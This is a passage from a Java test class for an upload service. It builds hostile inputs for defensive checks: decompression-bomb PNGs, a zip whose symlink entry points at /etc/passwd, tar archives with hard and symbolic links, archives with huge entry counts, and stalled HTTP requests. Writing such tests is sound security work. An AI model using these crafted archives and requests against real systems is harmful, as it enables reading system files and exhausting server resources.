      return new Resp(status, body < 0 ? null : Buffer.buffer(text.substring(body + 4)));
    }
  }

  private static byte[] readUpTo(InputStream in, int max) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] buf = new byte[8192];
    try {
      int n;
      while (out.size() < max && (n = in.read(buf)) > 0) {
        out.write(buf, 0, n);
        String t = out.toString(StandardCharsets.ISO_8859_1);
        int head = t.indexOf("\r\n\r\n");
        if (head >= 0) {
          int cl = t.toLowerCase(java.util.Locale.ROOT).indexOf("content-length:");
          if (cl >= 0 && cl < head) {
            int len = Integer.parseInt(t.substring(cl + 15, t.indexOf("\r\n", cl)).trim());
            if (out.size() >= head + 4 + len) {
              break;
            }
          }
        }
      }
    } catch (java.net.SocketException | java.net.SocketTimeoutException e) {
      // the server hung up: what arrived is the answer
    }
    return out.toByteArray();
  }

  /** Sends a request start and stalls; "closed after N ms" when the server hangs up in time, else "still open". */
  private static String closedWithin(String start, Duration limit) throws Exception {
    try (Socket s = new Socket()) {
      s.connect(new InetSocketAddress("127.0.0.1", platform.port()), 5000);
      s.getOutputStream().write(start.getBytes(StandardCharsets.ISO_8859_1));
      s.getOutputStream().flush();
      long t0 = System.nanoTime();
      s.setSoTimeout((int) limit.toMillis());
      try {
        InputStream in = s.getInputStream();
        while (in.read() >= 0) {
          // an error response may come first; the close is what counts
        }
      } catch (java.net.SocketTimeoutException e) {
        return "still open after " + limit.toMillis() + " ms";
      } catch (java.net.SocketException e) {
        // reset: closed
      }
      long ms = (System.nanoTime() - t0) / 1_000_000;
      return ms <= limit.toMillis() ? "closed within " + limit.toSeconds() + " s" : "closed after " + ms + " ms";
    }
  }

  private static Resp chunkedUpload(byte[] big) throws Exception {
    io.vertx.core.http.HttpClient client = platform.vertx().createHttpClient();
    try {
      return await(client.request(io.vertx.core.http.HttpMethod.POST, platform.port(), "127.0.0.1", "/v1/uploads").compose(r -> {
        r.setChunked(true).putHeader("Authorization", "Bearer " + keyA).putHeader("Content-Type", "application/zip");
        Future<io.vertx.core.http.HttpClientResponse> resp = r.response();
        int chunk = 1 << 20;
        Future<Void> writes = Future.succeededFuture();
        for (int off = 0; off < big.length; off += chunk) {
          Buffer b = Buffer.buffer(Arrays.copyOfRange(big, off, Math.min(big.length, off + chunk)));
          writes = writes.compose(v -> r.write(b)).recover(e -> Future.succeededFuture());
        }
        writes.onComplete(v -> r.end());
        return resp.compose(res -> res.body().map(body -> new Resp(res.statusCode(), body)));
      }));
    } finally {
      client.close();
    }
  }

  // ---------------------------------------------------------------- makers

  private static byte[] encode(BufferedImage img, String format) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    if (!ImageIO.write(img, format, out)) {
      throw new IOException("no writer for " + format);
    }
    return out.toByteArray();
  }

  private static byte[] jpeg(BufferedImage img) throws IOException {
    BufferedImage rgb = new BufferedImage(img.getWidth(), img.getHeight(), BufferedImage.TYPE_INT_RGB);
    rgb.getGraphics().drawImage(img, 0, 0, java.awt.Color.WHITE, null);
    return encode(rgb, "jpeg");
  }

  private static byte[] bmp(BufferedImage img) throws IOException {
    BufferedImage rgb = new BufferedImage(img.getWidth(), img.getHeight(), BufferedImage.TYPE_INT_RGB);
    rgb.getGraphics().drawImage(img, 0, 0, null);
    return encode(rgb, "bmp");
  }

  private static byte[] animatedGif() throws IOException {
    ImageWriter w = ImageIO.getImageWritersByFormatName("gif").next();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (var ios = ImageIO.createImageOutputStream(out)) {
      w.setOutput(ios);
      w.prepareWriteSequence(null);
      for (int i = 0; i < 2; i++) {
        BufferedImage f = new BufferedImage(32, 32, BufferedImage.TYPE_BYTE_INDEXED);
        f.getGraphics().fillRect(i * 8, i * 8, 10, 10);
        w.writeToSequence(new IIOImage(f, null, null), null);
      }
      w.endWriteSequence();
    }
    return out.toByteArray();
  }

  private static byte[] chunk(String type, byte[] data) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] t = type.getBytes(StandardCharsets.ISO_8859_1);
    out.writeBytes(int32(data.length));
    out.writeBytes(t);
    out.writeBytes(data);
    CRC32 crc = new CRC32();
    crc.update(t);
    crc.update(data);
    out.writeBytes(int32((int) crc.getValue()));
    return out.toByteArray();
  }

  private static byte[] int32(int v) {
    return new byte[] {(byte) (v >>> 24), (byte) (v >>> 16), (byte) (v >>> 8), (byte) v};
  }

  private static final byte[] PNG_SIG = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'};

  private static byte[] ihdr(int w, int h, int depth, int colorType) {
    return chunk("IHDR", concat(int32(w), int32(h), new byte[] {(byte) depth, (byte) colorType, 0, 0, 0}));
  }

  private static byte[] craftedPng(int w, int h, int depth, int colorType, byte[] idat) {
    return concat(PNG_SIG, ihdr(w, h, depth, colorType), chunk("IDAT", idat), chunk("IEND", new byte[0]));
  }

  /** A real 1-bit greyscale PNG of w x h zero pixels: a few KiB that would decode to w*h pixels. */
  private static byte[] bombPng(int w, int h) throws IOException {
    ByteArrayOutputStream z = new ByteArrayOutputStream();
    try (DeflaterOutputStream d = new DeflaterOutputStream(z, new Deflater(9))) {
      byte[] row = new byte[1 + (w + 7) / 8];
      for (int y = 0; y < h; y++) {
        d.write(row);
      }
    }
    return craftedPng(w, h, 1, 0, z.toByteArray());
  }

  private static byte[] apng(byte[] png) {
    int afterIhdr = 8 + 25;
    byte[] actl = chunk("acTL", concat(int32(2), int32(0)));
    return concat(Arrays.copyOf(png, afterIhdr), actl, Arrays.copyOfRange(png, afterIhdr, png.length));
  }

  private static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] p : parts) {
      out.writeBytes(p);
    }
    return out.toByteArray();
  }

  private static byte[] random(int n) {
    byte[] b = new byte[n];
    new java.util.Random(n).nextBytes(b);
    return b;
  }

  /** An archive entry to write: a file of bytes, a run of zeros, or a link. */
  record Entry(String name, byte[] bytes, long zeros, String link, boolean hard) {}

  private static Entry file(String name, byte[] bytes) {
    return new Entry(name, bytes, 0, null, false);
  }

  private static Entry zeros(String name, long n) {
    return new Entry(name, null, n, null, false);
  }

  private static Entry link(String name, String target, boolean hard) {
    return new Entry(name, null, 0, target, hard);
  }

  private static byte[] zip(Map<String, byte[]> files) throws IOException {
    List<Entry> entries = new ArrayList<>();
    new LinkedHashMap<>(files).forEach((k, v) -> entries.add(file(k, v)));
    entries.sort((a, b) -> a.name().compareTo(b.name()));
    return zipEntries(entries);
  }

  private static byte[] zipEntries(List<Entry> entries) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(out)) {
      for (Entry e : entries) {
        zip.putArchiveEntry(new ZipArchiveEntry(e.name()));
        writeBody(zip, e);
        zip.closeArchiveEntry();
      }
    }
    return out.toByteArray();
  }

  private static void writeBody(OutputStream out, Entry e) throws IOException {
    if (e.bytes() != null) {
      out.write(e.bytes());
    }
    byte[] z = new byte[1 << 16];
    for (long left = e.zeros(); left > 0; left -= z.length) {
      out.write(z, 0, (int) Math.min(z.length, left));
    }
  }

  private static byte[] zipWithSymlink(byte[] png) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(out)) {
      zip.putArchiveEntry(new ZipArchiveEntry("good.png"));
      zip.write(png);
      zip.closeArchiveEntry();
      ZipArchiveEntry link = new ZipArchiveEntry("evil.png");
      link.setUnixMode(0120777);
      zip.putArchiveEntry(link);
      zip.write("/etc/passwd".getBytes(StandardCharsets.UTF_8));
      zip.closeArchiveEntry();
    }
    return out.toByteArray();
  }

  private static byte[] manyEntriesZip(int n) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(out)) {
      zip.setUseZip64(Zip64Mode.AsNeeded);
      zip.setMethod(ZipArchiveEntry.STORED);
      for (int i = 0; i < n; i++) {
        ZipArchiveEntry e = new ZipArchiveEntry(i + ".png");
        e.setSize(0);
        e.setCrc(0);
        zip.putArchiveEntry(e);
        zip.closeArchiveEntry();
      }
    }
    return out.toByteArray();
  }

  private static byte[] tar(List<Entry> entries) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (TarArchiveOutputStream tar = new TarArchiveOutputStream(out)) {
      tar.setLongFileMode(TarArchiveOutputStream.LONGFILE_POSIX);
      tar.setBigNumberMode(TarArchiveOutputStream.BIGNUMBER_POSIX);
      for (Entry e : entries) {
        TarArchiveEntry t;
        if (e.link() != null) {
          t = new TarArchiveEntry(e.name(), e.hard() ? TarConstants.LF_LINK : TarConstants.LF_SYMLINK);
          t.setLinkName(e.link());
        } else {
          t = new TarArchiveEntry(e.name(), true);
          t.setSize(e.bytes() != null ? e.bytes().length : e.zeros());
        }
        tar.putArchiveEntry(t);
        writeBody(tar, e);
        tar.closeArchiveEntry();
      }
    }
    return out.toByteArray();
  }

  private static byte[] manyEntriesTar(int n) throws IOException {
    List<Entry> entries = new ArrayList<>(n);
    for (int i = 0; i < n; i++) {
      entries.add(file(i + ".png", new byte[0]));
    }
    return tar(entries);
  }

  private static byte[] gzip(byte[] bytes) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (GzipCompressorOutputStream gz = new GzipCompressorOutputStream(out)) {
      gz.write(bytes);
    }
    return out.toByteArray();
  }
}
